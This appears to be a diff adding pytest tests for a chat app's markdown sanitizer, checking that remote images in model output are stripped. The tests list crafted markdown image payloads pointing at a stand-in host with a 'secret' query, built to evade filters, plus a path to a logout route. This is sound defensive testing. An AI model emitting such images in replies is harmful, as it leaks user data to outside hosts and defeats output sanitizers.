@@ -1,6 +1,9 @@
 """Markdown helpers: how a streaming reply is cut into pieces drawn once each, and tables."""
 
-from chat_core.markdown import blocks, stream_blocks, table
+import pytest
+from markdown_it import MarkdownIt
+
+from chat_core.markdown import blocks, for_display, stream_blocks, table
 
 LISTING = "Here is the file:\n\n```python\n" + "".join(
     f"print('line {n}')  # {'x' * 30}\n" for n in range(400)
@@ -61,3 +64,70 @@ def test_a_table_keeps_every_cell_in_its_column():
         r"| c\|d | 2 |",  # an escaped one stays as it is
         "| two lines | 3 |",  # a line break would end the row
     ]
+
+
+# --- images in model output ------------------------------------------------------------------
+
+EVIL = "http://evil.example/p.png?q=secret"
+# Each of these once kept an image through `for_display`: a "!" left before a link,
+# alt text a regular expression cannot read, text taken for code, a path that decodes
+# to another host or lands on an app route.
+SLIPPERY = [
+    f"!![x]({EVIL})",
+    f"Wow!![chart]({EVIL})",
+    f"!![x][r]\n\n[r]: {EVIL}",
+    f"![a [b] c]({EVIL})",
+    f"![[a]]({EVIL})",
+    f"![`x`]({EVIL})",
+    f"![a`]`b]({EVIL})",
+    f"![x\\\n]({EVIL})",
+    f"\\`![x]({EVIL})\\`",
+    f"a ``` b ![x]({EVIL})",
+    f"``a`b``![x]({EVIL})`",
+    f"    ```\n![x]({EVIL})\n    ```",
+    f"~~~\n```\n~~~\n![x]({EVIL})\n```",
+    "![x](/\\/evil.example/p.png)",
+    "![x](/&#47;evil.example/p.png)",
+    "![x](/&sol;evil.example/p.png)",
+    "![x](/media/../auth/logout)",
+    "![x](/auth/logout)",
+]
+
+
+def image_sources(markdown: str) -> list[str]:
+    """What a CommonMark renderer would fetch for `markdown`."""
+    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
+    return [
+        child.attrs["src"]
+        for token in tokens
+        for child in token.children or ()
+        if child.type == "image"
+    ]
+
+
+@pytest.mark.parametrize("text", SLIPPERY)
+def test_no_remote_image_survives(text):
+    assert image_sources(text)  # each is an image as written
+    assert image_sources(for_display(text)) == []
+
+
+def test_an_image_becomes_its_link_and_code_stays_as_written():
+    text = f"see ![chart]({EVIL}) and `![x]({EVIL})`\n\n```\n![y]({EVIL})\n```"
+    assert for_display(text) == text.replace("see !", "see ", 1)
+
+
+def test_images_this_app_serves_stay_images():
+    text = "![a](/media/0a1b.png) ![b](/app/static/logo.png) ![c](data:image/png;base64,AAAA)"
+    assert for_display(text) == text
+    assert len(image_sources(text)) == 3
+
+
+def test_latex_delimiters_become_dollars_outside_code():
+    text = r"\(x^2\) and \[ y \] but `\(z\)`"
+    assert for_display(text) == "$x^2$ and $$ y $$ but `\\(z\\)`"
+
+
+@pytest.mark.timeout(20)
+def test_openers_without_closers_take_linear_time():
+    text = "\\(" * 100_000 + "\\[" * 100_000  # quadratic scanning would take minutes
+    assert for_display(text) == text
